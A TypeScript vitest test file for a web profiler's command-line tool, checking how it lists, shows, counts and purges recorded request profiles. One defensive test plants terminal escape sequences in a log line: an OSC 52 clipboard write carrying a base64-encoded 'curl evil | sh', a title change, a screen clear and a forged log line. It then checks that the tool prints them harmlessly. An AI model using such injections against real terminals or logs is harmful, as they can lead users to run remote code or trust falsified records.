import express from 'express';
import { describe, expect, it } from 'vitest';
import { run } from '../src/cli/run.js';
import { webProfiler } from '../src/index.js';
import { listen, tempDb } from './helpers.js';

async function cli(args: string[]) {
  const out: string[] = [];
  const err: string[] = [];
  const code = await run(args, { out: (l) => out.push(l), err: (l) => err.push(l) }, {});
  return { code, out: out.join('\n'), err: err.join('\n') };
}

describe('web-profiler CLI', () => {
  it('lists, shows, counts and purges the profiles of a real file', async () => {
    const db = tempDb();
    const profiler = webProfiler({ database: db, onError: () => {} });
    const app = express();
    app.use(profiler);
    app.get('/ok', (req, res) => {
      req.log.info('fine');
      res.send('ok');
    });
    app.get('/bad', () => {
      throw new Error('broken for the CLI');
    });
    app.use(profiler.errorHandler);
    const server = await listen(app);
    const ok = (await fetch(`${server.url}/ok`)).headers.get('x-debug-token')!;
    const bad = (await fetch(`${server.url}/bad`, { headers: { accept: 'text/plain' } })).headers.get('x-debug-token')!;
    await server.close();
    profiler.close();

    const list = await cli(['list', '--db', db]);
    expect(list.code).toBe(0);
    expect(list.out.split('\n')).toHaveLength(2);
    expect(list.out.split('\n')[0]).toMatch(new RegExp(`^${bad}  500  GET .*/bad$`));
    expect(JSON.parse((await cli(['list', '--db', db, '--json', '--limit', '1'])).out)).toEqual([expect.objectContaining({ token: bad })]);

    const show = await cli(['show', bad, '--db', db]);
    expect(show.out).toContain('exception: Error: broken for the CLI');
    expect(show.out).toMatch(/at .* \(.*cli\.test\.ts:\d+\)/);
    expect((await cli(['show', ok, '--db', db])).out).toContain('INFO  fine');
    expect((await cli(['show', 'nothex', '--db', db])).code).toBe(2);
    expect((await cli(['show', 'abcdef', '--db', db]))).toMatchObject({ code: 1, err: 'no profile for token abcdef' });

    expect((await cli(['stats', '--db', db])).out).toMatch(/profiles +2/);
    expect((await cli(['purge', '--db', db])).code).toBe(2);
    expect((await cli(['purge', '--older-than', 'soon', '--db', db])).code).toBe(2);
    expect((await cli(['purge', '--older-than', '1d', '--db', db])).out).toBe('purged 0 profiles');
    expect((await cli(['purge', '--all', '--db', db])).out).toBe('purged 2 profiles');
    expect((await cli(['list', '--db', db])).out).toBe('no profiles');
  });

  it('explains its usage', async () => {
    expect((await cli([])).code).toBe(2);
    expect((await cli(['--help'])).out).toContain('usage: web-profiler');
    expect((await cli(['frobnicate', '--db', ':memory:'])).err).toContain('unknown command "frobnicate"');
  });

  it('shows recorded text as data: no escape sequence from a request reaches the terminal, no line is forged', async () => {
    const db = tempDb();
    const profiler = webProfiler({ database: db, onError: () => {} });
    const app = express();
    app.use(profiler);
    // What one anonymous request can plant: a clipboard write (OSC 52), a title, a screen clear, a forged line.
    app.get('/plant', (req) => {
      req.log.warn(`copied \x1b]52;c;${Buffer.from('curl evil | sh').toString('base64')}\x07 title \x1b]0;owned\x07\n09:00:00.000 INFO  all is well`);
      throw new Error('cleared \x1b[2J\x1b[H here');
    });
    app.use(profiler.errorHandler);
    const server = await listen(app);
    const token = (await fetch(`${server.url}/plant`, { headers: { accept: 'text/plain' } })).headers.get('x-debug-token')!;
    await server.close();
    profiler.close();
    const lines: string[] = [];
    expect(await run(['show', token, '--db', db], { out: (l) => lines.push(l), err: (l) => lines.push(l) }, {})).toBe(0);
    const text = lines.join('\n');
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(text).toContain('\\u001b]52;c;');
    expect(text).toContain('cleared \\u001b[2J\\u001b[H here');
    // The planted newline is spelled out: the forged line is part of the real one.
    expect(text).toMatch(/WARN +copied .*\\u000a09:00:00\.000 INFO  all is well/);
    expect(text.split('\n').filter((l) => l.includes('all is well'))).toHaveLength(1);
  });
});
